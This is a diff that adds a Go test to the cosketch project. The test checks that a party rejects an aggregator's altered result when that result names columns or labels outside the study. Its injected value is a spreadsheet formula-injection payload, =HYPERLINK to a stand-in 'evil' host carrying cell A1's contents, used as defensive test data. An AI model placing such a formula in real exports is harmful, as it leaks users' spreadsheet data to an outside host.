@@ -1,0 +1,84 @@
+package node_test
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+
+	"github.com/cosketch/cosketch/node"
+	"github.com/cosketch/cosketch/protocol/analysis"
+	"github.com/cosketch/cosketch/protocol/study"
+)
+
+// What an aggregator signs is no document of the study if it names what the study does not,
+// and a party keeps none of it.
+func TestADocumentThatNamesWhatTheStudyDoesNot(t *testing.T) {
+	const formula = `=HYPERLINK(\"http://evil/?\"&A1)`
+	w, data := wide(3, "[{kind: distance}]")
+	b := newBench(t, w, data)
+	b.carryAll()
+	for name, change := range map[string]func(*node.Further){
+		"a feature": func(f *node.Further) {
+			f.Raw = bytes.Replace(f.Raw, []byte(`"column": "x0"`), []byte(`"column": "`+formula+`"`), 1)
+			f.Raw = bytes.Replace(f.Raw, []byte(`"column":"x0"`), []byte(`"column":"`+formula+`"`), 1)
+		},
+		"labels": func(f *node.Further) {
+			f.Labels = append(f.Labels, analysis.Labels{Format: analysis.LabelsFormat, Study: b.study.ID.String(), Party: "a", Columns: []analysis.RowColumn{
+				{Name: "predicted", Texts: []string{formula}},
+			}})
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			st := b.open("agg")
+			options := b.deskOptions(st)
+			answer, err := node.Analyze(t.Context(), options, b.study, study.Analysis{Kind: study.Cosine}, 1<<30)
+			check(t, err)
+			change(&answer)
+			_, err = node.Publish(options, b.study, answer)
+			check(t, err)
+			check(t, answer.Close())
+			check(t, st.Close())
+			in := b.answer("a")
+			err = b.byHand("a", fixed("a"), func(p *node.Party) error {
+				_, err := p.Import(b.context(), bytes.NewReader(in))
+				return err
+			})
+			if err == nil || !strings.Contains(err.Error(), "checking the names") {
+				t.Errorf("error %v", err)
+			}
+			st = b.open("a")
+			defer st.Close()
+			if further, err := node.FurtherResults(st, b.study); err != nil || len(further) > 0 {
+				t.Errorf("%d further results are kept (%v)", len(further), err)
+			}
+			files, err := st.Results(b.study.ID)
+			check(t, err)
+			for _, file := range files {
+				raw, err := st.Result(b.study.ID, file)
+				check(t, err)
+				if strings.Contains(string(raw), "HYPERLINK") {
+					t.Errorf("%s holds the formula", file)
+				}
+			}
+			check(t, b.dropFurther())
+		})
+	}
+}
+
+// dropFurther takes the aggregator's further results away.
+func (b *bench) dropFurther() error {
+	st := b.open("agg")
+	defer st.Close()
+	names, err := st.Results(b.study.ID)
+	if err != nil {
+		return err
+	}
+	for _, name := range names {
+		if strings.HasPrefix(name, "further-") {
+			if err := st.DropResult(b.study.ID, name); err != nil {
+				return err
+			}
+		}
+	}
+	return nil
+}
